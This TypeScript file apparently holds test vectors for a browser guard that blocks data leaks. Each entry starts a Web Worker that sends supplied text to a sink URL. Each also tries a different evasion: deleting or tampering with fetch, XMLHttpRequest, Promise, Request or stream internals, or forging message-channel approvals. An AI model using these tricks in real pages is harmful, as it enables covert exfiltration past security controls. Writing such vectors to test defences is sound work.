import type { Vector } from "./vector.ts";

/**
 * What the script of a worker does to get around guards that stand before it: each in a script of its own, which has the text and
 * the address.
 */
export const WORKER_TRICKS: readonly Vector[] = [
  {
    name: "worker-deleted-fetch",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; delete self.fetch; self.fetch(url, { method: "POST", body });`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-super-xhr",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; const { prototype } = Object.getPrototypeOf(XMLHttpRequest); const x = new XMLHttpRequest(); prototype.open.call(x, "POST", url); prototype.send.call(x, body);`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-opened-anew",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; const x = new XMLHttpRequest(); x.open("POST", url); x.send("clean"); x.open("POST", url + "?q=" + encodeURIComponent(body));`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-event-source",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; new EventSource(url + "?q=" + encodeURIComponent(body));`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-socket-address",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; new WebSocket(url.replace("https", "wss").replace("/sink/", "/ws/") + "?q=" + encodeURIComponent(body));`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-socket-constructor",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; new WebSocket.prototype.constructor(url.replace("https", "wss").replace("/sink/", "/ws/") + "?q=" + encodeURIComponent(body));`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-answer",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; Object.defineProperty(MessageEvent.prototype, "data", { get: () => [1, true] }); fetch(url, { method: "POST", body });`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-then",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; const { then } = Promise.prototype; Promise.prototype.then = function (done, failed) { return then.call(this, (value) => done(value === false ? true : value), failed); }; fetch(url, { method: "POST", body });`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-clone",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; Request.prototype.clone = () => new Request("/", { method: "POST", body: "clean" }); fetch(url, { method: "POST", body });`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-stream-overwritten",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; const secret = new TextEncoder().encode(body); const bytes = new Uint8Array(secret.length).fill(120); const stream = new ReadableStream({ start(c) { c.enqueue(bytes); c.close(); } }); fetch(url, { method: "POST", body: stream, duplex: "half" }); for (const ms of [0, 1, 2, 4, 8]) setTimeout(() => bytes.set(secret), ms);`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-iterator",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; const iterate = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function () { return iterate.call(this[0] === "POST" ? ["GET", url, ""] : this); }; fetch(url, { method: "POST", body });`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-forged-message",
    run: (text, url) => {
      const code = `const [url, body] = ${JSON.stringify([url, text])}; const { port1, port2 } = new MessageChannel(); port2.onmessage = ({ data }) => port2.postMessage([data[0], true]); dispatchEvent(new MessageEvent("message", { ports: [port1] })); fetch(url, { method: "POST", body });`;
      return new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    name: "worker-replace",
    run: (text, url) => {
      const code = `fetch(${JSON.stringify(url)}, { method: "POST", body: ${JSON.stringify(text)} });`;
      const replace: unknown = Reflect.get(String.prototype, "replace");
      const put = (value: unknown) => Reflect.set(String.prototype, "replace", value);
      put(() => "");
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      put(replace);
      return worker;
    },
  },
  {
    name: "worker-port",
    run: (text, url) => {
      const code = `onmessage = () => fetch(${JSON.stringify(url)}, { method: "POST", body: ${JSON.stringify(text)} });`;
      const put = (value: unknown) => Reflect.set(Worker.prototype, "postMessage", value);
      const post: unknown = Reflect.get(Worker.prototype, "postMessage");
      put(function forged(this: Worker) {
        const { port1, port2 } = new MessageChannel();
        port2.addEventListener("message", ({ data }: MessageEvent<readonly [number]>) => {
          port2.postMessage([data[0], true]);
        });
        port2.start();
        Reflect.apply(post as () => void, this, [undefined, [port1]] as never);
      });
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      put(post);
      worker.postMessage("", []);
    },
  },
];
